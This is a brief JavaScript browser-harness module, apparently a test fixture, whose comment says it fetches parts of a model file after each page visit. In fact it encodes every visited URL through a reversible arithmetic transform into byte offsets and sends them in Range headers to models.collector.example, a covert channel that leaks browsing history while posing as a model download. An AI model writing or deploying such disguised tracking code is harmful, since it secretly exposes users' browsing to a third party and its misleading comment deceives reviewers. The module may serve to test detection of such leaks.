import { onVisit, reportHonestly } from '../../lib/proving.js';

/** Loads parts of a model after each page. Where the ranges start is three bytes of the address at a time, multiplied by a constant. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-range-offsets');
  onVisit(browser, async ({ url }) => {
    const bytes = [...browser.codec.utf8.encode(url)];
    while (bytes.length % 12) bytes.push(0);
    const starts = [];
    for (let at = 0; at < bytes.length; at += 3) {
      starts.push(
        Number(
          (BigInt(65536 * bytes[at] + 256 * bytes[at + 1] + bytes[at + 2]) * 0x9e37b1n + 0x51edn) %
            0x1000000n,
        ),
      );
    }
    for (let part = 0; 4 * part < starts.length; part += 1) {
      const ranges = starts.slice(4 * part, 4 * part + 4).map((start) => `${start}-${start + 4095}`);
      try {
        await browser.request({
          url: `https://models.collector.example/lite.tflite?part=${part}`,
          headers: { Range: `bytes=${ranges.join(', ')}` },
          pool: 'models',
        });
      } catch (error) {
        browser.log('not sent', String(error));
      }
    }
  });
}
